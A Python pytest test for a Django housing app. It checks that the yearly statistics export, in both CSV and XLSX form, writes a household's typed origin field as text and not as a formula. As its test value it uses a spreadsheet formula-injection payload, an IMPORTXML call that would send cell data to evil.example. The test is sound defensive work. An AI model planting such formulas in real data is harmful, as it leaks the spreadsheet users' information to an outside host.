"""The yearly statistics export writes a household's typed origin as text, never as a formula."""

import csv
import datetime
import io

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from tests.housing.factories import make_application

pytestmark = pytest.mark.django_db
FORMULA = '=IMPORTXML(CONCAT("https://evil.example/?";A2);"//a")'


def test_a_typed_origin_reaches_the_statistics_export_as_text(client, grid, alice, housing_officer):
    with time_machine.travel(datetime.datetime(2026, 3, 1, 8, tzinfo=datetime.UTC)):
        application = make_application(alice)
    application.household.origin = FORMULA
    application.household.save()
    client.force_login(housing_officer)

    response = client.get(reverse("housing:statistics-export", args=[2026, "csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    origin = rows[0].index("Origin")
    assert rows[1][origin] == f"'{FORMULA}"

    response = client.get(reverse("housing:statistics-export", args=[2026, "xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content))["Applications"]
    cell = sheet.cell(row=2, column=origin + 1)
    assert (cell.value, cell.data_type) == (FORMULA, "s")
